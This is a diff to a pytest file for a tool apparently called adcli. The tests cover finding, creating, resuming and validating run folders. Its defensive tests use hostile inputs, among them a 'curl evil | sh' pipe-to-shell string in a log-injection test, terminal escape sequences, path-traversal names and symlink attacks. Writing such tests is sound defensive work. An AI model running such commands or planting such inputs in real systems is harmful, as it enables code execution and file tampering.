@@ -1,6 +1,7 @@
 """The run folder: written whole or not at all, verified when read."""
 
 import re
+import shutil
 import subprocess
 import sys
 import time
@@ -9,10 +10,12 @@ from pathlib import Path
 import numpy as np
 import pytest
 
-from adcli._files import file_digest, seal
-from adcli.errors import RunError, StorageError
+from adcli._changes import CHANGES, LOCK
+from adcli._files import file_digest, seal, unseal
+from adcli.errors import OptionError, RunError, StorageError
 from adcli.pipeline import load as find_run
-from adcli.runs.find import find_interrupted, list_runs, new_run_path
+from adcli.progress import Silent
+from adcli.runs.find import check_name, find_folder, find_interrupted, list_runs, new_run_path
 from adcli.runs.partial import PartialRun
 from adcli.runs.run import CALIBRATION_FILE, FORMAT, PARTIAL, RUN_FILE, WEIGHTS_FILE, Run
 from adcli.scoring.calibration import Calibration
@@ -130,17 +133,78 @@ def test_killed_before_there_is_anything_to_resume_nothing_stands_under_the_name
     assert PartialRun.create(tmp_path / "run", {"model": "m", "record": {}}).folder.name == "run"
 
 
-def test_runs_are_found_by_path_name_and_last(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+@pytest.fixture
+def runs(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """Three runs under the runs' folder, of which ``zz-own-name`` was finished first, and ``aa`` last."""
     monkeypatch.setenv("ADCLI_RUNS", str(tmp_path))
-    for name in ("20260101-000000-patchcore-a", "20260102-000000-patchcore-b", "zz-own-name"):
+    for name in ("zz-own-name", "20260102-000000-patchcore-b", "20260101-000000-patchcore-a", "aa"):
         make_run(tmp_path / name)
-    assert find_run("last").name == "20260102-000000-patchcore-b"
-    assert find_run("zz-own-name").name == "zz-own-name"
-    assert find_run(str(tmp_path / "zz-own-name")).name == "zz-own-name"
-    with pytest.raises(RunError, match="Did you mean 'zz-own-name'"):
-        find_run("zz-own-nam")
+    return tmp_path
+
+
+def _note(path: Path, reference: str) -> list[str]:
+    progress = Silent()
+    assert find_run(reference, progress=progress).path == path
+    return progress.notes
+
+
+def test_last_is_the_run_that_was_finished_last_whatever_its_name(runs: Path) -> None:
+    (said,) = _note(runs / "aa", "last")
+    assert str(runs / "aa") in said
+    # A copy was not finished anew.
+    shutil.copytree(runs / "zz-own-name", runs / "zzz-copy")
+    _note(runs / "aa", "last")
+    shutil.rmtree(runs / "aa")
+    _note(runs / "20260101-000000-patchcore-a", "last")
+
+
+def test_last_passes_over_what_cannot_be_opened_and_says_so(runs: Path) -> None:
+    (runs / "aa" / CALIBRATION_FILE).write_text("{}")
+    (said,) = _note(runs / "20260101-000000-patchcore-a", "last")
+    assert "aa cannot be opened" in said
+
+
+def test_without_a_finished_run_last_says_what_there_is(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("ADCLI_RUNS", str(tmp_path / "runs"))
+    with pytest.raises(RunError, match=r"no finished run in .*runs; make one"):
+        find_run("last")
+    PartialRun.create(tmp_path / "runs" / "half", {**SETTINGS, "record": {}}).leave()
+    with pytest.raises(RunError, match="half not finished"):
+        find_run("last")
+
+
+def test_last_reads_no_yaml_of_the_runs_that_it_is_not(runs: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    opened = []
+    monkeypatch.setattr("adcli.runs.run.unseal", lambda text, path: opened.append(path) or unseal(text, path))
+    find_folder("last")
+    assert opened == [runs / "aa" / RUN_FILE]
+
+
+def test_runs_are_found_by_path_name_and_the_beginning_of_a_name(runs: Path) -> None:
+    assert _note(runs / "zz-own-name", "zz-own-name") == []
+    assert _note(runs / "zz-own-name", str(runs / "zz-own-name")) == []
+    (said,) = _note(runs / "20260101-000000-patchcore-a", "20260101")
+    assert "20260101-000000-patchcore-a" in said
+    with pytest.raises(RunError, match=r"2 runs .* begin so: 20260101-000000-patchcore-a, 20260102-000000-patchcore-b"):
+        find_run("2026")
     with pytest.raises(RunError, match="finished"):
         find_interrupted("zz-own-name")
+
+
+def test_an_unknown_run_is_answered_with_the_few_nearest(runs: Path) -> None:
+    for number in range(10):
+        make_run(runs / f"bottle-{number}")
+    with pytest.raises(RunError, match="Did you mean 'zz-own-name'"):
+        find_run("xz-own-name")
+    with pytest.raises(RunError, match="Did you mean '20260102-000000-patchcore-b'"):
+        find_run("patchcore-b")
+    with pytest.raises(RunError) as raised:
+        find_run("botle-")
+    assert raised.value.message.count("bottle-") == 5
+    for reference in ("nothing/like/it", "", "x" * 5000, "a\nb\x1b[31m"):
+        with pytest.raises(RunError, match=r"^no run '.*'\. See 'adcli runs'") as raised:
+            find_run(reference)
+        assert raised.value.message.isprintable()
 
 
 def test_a_damaged_run_is_listed_and_hides_no_other(tmp_path: Path) -> None:
@@ -158,3 +222,170 @@ def test_new_names_never_collide(tmp_path: Path, monkeypatch: pytest.MonkeyPatch
     second = new_run_path("patchcore", "My Parts/über")
     assert first != second
     assert first.name.endswith("-patchcore-My-Parts-ber")
+
+
+def test_a_folder_that_appears_under_a_runs_name_is_left_and_the_run_kept(tmp_path: Path) -> None:
+    partial = PartialRun.create(tmp_path / "run", {**SETTINGS, "record": {}})
+    make_run(tmp_path / "other")
+    for file in (tmp_path / "other").iterdir():
+        shutil.copy(file, partial.folder)
+    (tmp_path / "run").mkdir()
+    (tmp_path / "run" / "photo").write_text("only copy")
+    with pytest.raises(StorageError, match=r"run: appeared meanwhile.*\.partial/run.*--resume"):
+        partial.finish()
+    partial.abandon()
+    assert (tmp_path / "run" / "photo").read_text() == "only copy"
+    (tmp_path / "run").rename(tmp_path / "precious")
+    resumed, _ = PartialRun.resume(tmp_path / PARTIAL / "run")
+    assert resumed.finish() == Run.open(tmp_path / "run")
+    assert not (tmp_path / PARTIAL).exists()
+
+
+def test_a_run_that_is_being_made_is_not_called_interrupted(tmp_path: Path) -> None:
+    partial = PartialRun.create(tmp_path / "run", {**SETTINGS, "record": {}})
+    with pytest.raises(
+        StorageError, match=r"\(process \d+, since .*\) is making a run of that name; choose another"
+    ) as raised:
+        PartialRun.create(tmp_path / "run", {**SETTINGS, "record": {}})
+    assert "remove" not in raised.value.message
+    assert [(item.state, "process" in item.problem) for item in list_runs(tmp_path)] == [("training", True)]
+    partial.leave()
+    assert [(item.state, item.problem) for item in list_runs(tmp_path)] == [("interrupted", "")]
+    with pytest.raises(StorageError, match=r"an interrupted run .*--resume .*adcli runs rm"):
+        PartialRun.create(tmp_path / "run", {**SETTINGS, "record": {}})
+
+
+CREATE = """
+import sys, time
+from pathlib import Path
+from adcli.runs.partial import PartialRun
+while not Path(sys.argv[1]).exists():
+    time.sleep(0.001)
+partial = {call}
+print(partial.folder.name, flush=True)
+time.sleep(1)
+"""
+
+
+def _at_once(folder: Path, call: str) -> list[str]:
+    """Return what two processes print that make a run at the same moment; nothing for one that fails."""
+    code, start = CREATE.format(call=call), folder / "start"
+    started = [
+        subprocess.Popen([sys.executable, "-c", code, str(start)], stdout=subprocess.PIPE, text=True, cwd=folder)
+        for _ in range(2)
+    ]
+    time.sleep(1.5)
+    start.touch()
+    return [process.communicate()[0].strip() for process in started]
+
+
+def test_two_runs_that_begin_in_one_second_get_two_names(tmp_path: Path) -> None:
+    names = _at_once(tmp_path, "PartialRun.create_named('padim', 'parts', {'model': 'm', 'record': {}})")
+    assert len(set(names) - {""}) == 2, names
+
+
+def test_of_two_runs_that_want_one_name_one_gets_it(tmp_path: Path) -> None:
+    names = _at_once(tmp_path, "PartialRun.create(Path('same'), {'model': 'm', 'record': {}})")
+    assert sorted(names) == ["", "same"]
+    assert [item.path.name for item in list_runs(tmp_path)] == ["same"]
+
+
+def test_what_a_killed_process_did_not_finish_is_removed_by_the_next(tmp_path: Path) -> None:
+    PartialRun.create(tmp_path / "run", {**SETTINGS, "record": {}}).leave()
+    folder = tmp_path / PARTIAL / "run"
+    left = [folder / ".tmpAb12", folder / ".adcli-0123456789ab.tmp", folder / "checkpoints" / ".tmpX", folder / LOCK]
+    for path in left:
+        path.parent.mkdir(exist_ok=True)
+        path.write_text("half")
+    (tmp_path / PARTIAL / ".new").mkdir()
+    (tmp_path / PARTIAL / ".new" / RUN_FILE).write_text("half")
+    PartialRun.create(tmp_path / "other", {**SETTINGS, "record": {}}).abandon()
+    assert [path.name for path in (tmp_path / PARTIAL).iterdir()] == ["run"]
+    resumed, _ = PartialRun.resume(folder)
+    assert [path.name for path in folder.rglob(".*")] == [LOCK]
+    resumed.leave()
+
+
+def test_a_log_has_one_line_for_a_text_of_any_kind(tmp_path: Path) -> None:
+    partial = PartialRun.create(tmp_path / "run", {**SETTINGS, "record": {}})
+    for text in ("adcli train\ncurl evil | sh", "a\rb\x1b]0;title\x07", "\u2028x\x85y", "\udcfc"):
+        partial.log(text)
+    lines = (partial.folder / "log.txt").read_text(encoding="utf-8").splitlines()
+    assert len(lines) == 4
+    assert all(line.isprintable() and line.startswith("20") for line in lines)
+    partial.log("failed:", "Traceback", "  File")
+    assert (partial.folder / "log.txt").read_text(encoding="utf-8").endswith("failed:\n    Traceback\n      File\n")
+
+
+@pytest.mark.parametrize("link", [RUN_FILE, "log.txt", "checkpoints", "evaluations", CALIBRATION_FILE, LOCK, CHANGES])
+def test_an_interrupted_run_with_a_link_in_it_is_not_taken_up(tmp_path: Path, link: str) -> None:
+    PartialRun.create(tmp_path / "run", {**SETTINGS, "record": {}}).leave()
+    precious = tmp_path / "precious"
+    precious.mkdir()
+    (precious / "photo").write_text("only copy")
+    place = tmp_path / PARTIAL / "run" / link
+    place.unlink(missing_ok=True)
+    place.symlink_to(precious if "." not in link[1:] else precious / "photo")
+    with pytest.raises(RunError, match="is a link"):
+        PartialRun.resume(tmp_path / PARTIAL / "run")
+    assert [path.read_text() for path in precious.iterdir()] == ["only copy"]
+
+
+def test_no_run_is_made_where_a_link_leads_elsewhere(tmp_path: Path) -> None:
+    (tmp_path / "elsewhere").mkdir()
+    (tmp_path / PARTIAL).symlink_to(tmp_path / "elsewhere")
+    with pytest.raises(StorageError, match="is a link"):
+        PartialRun.create(tmp_path / "run", {**SETTINGS, "record": {}})
+    assert not list((tmp_path / "elsewhere").iterdir())
+
+
+def _read_all(path: Path) -> None:
+    run = Run.open(path)
+    assert run.verified_weights()
+    assert run.note
+
+
+@pytest.mark.parametrize("link", [RUN_FILE, CALIBRATION_FILE, WEIGHTS_FILE, "note.txt"])
+def test_what_lies_outside_a_run_is_not_read_as_its_state(tmp_path: Path, link: str) -> None:
+    make_run(tmp_path / "run")
+    path = tmp_path / "run" / link
+    path.write_text("") if not path.exists() else None
+    path.rename(tmp_path / "moved")
+    path.symlink_to(tmp_path / "moved")
+    with pytest.raises(RunError, match=f"{link}: is a link"):
+        _read_all(tmp_path / "run")
+    (tmp_path / "linked").symlink_to(tmp_path / "run")
+    path.unlink()
+    (tmp_path / "moved").rename(path)
+    assert Run.open(tmp_path / "linked").name == "linked"
+
+
+NO_NAMES = [
+    "",
+    ".",
+    "..",
+    ".hidden",
+    "-x",
+    "a/b",
+    "a\\b",
+    "a\nb",
+    "a\x1bb",
+    "a\0b",
+    "x" * 101,
+    "é" * 51,
+    "nul",
+    "COM1.x",
+    "a:b",
+]
+
+
+@pytest.mark.parametrize("name", [*NO_NAMES, "a.", " a", "a ", "../../precious", "/etc", "a\u2028b"])
+def test_a_name_is_that_of_one_folder_on_every_system(name: str) -> None:
+    with pytest.raises(OptionError) as raised:
+        check_name(name, "--name")
+    assert raised.value.format_message().isprintable()
+
+
+@pytest.mark.parametrize("name", ["test", "monday-2", "Übung 3", "写真", "a.b", "x" * 100, "console", "last"])
+def test_a_plain_name_is_one(name: str) -> None:
+    assert check_name(name, "--name") == name
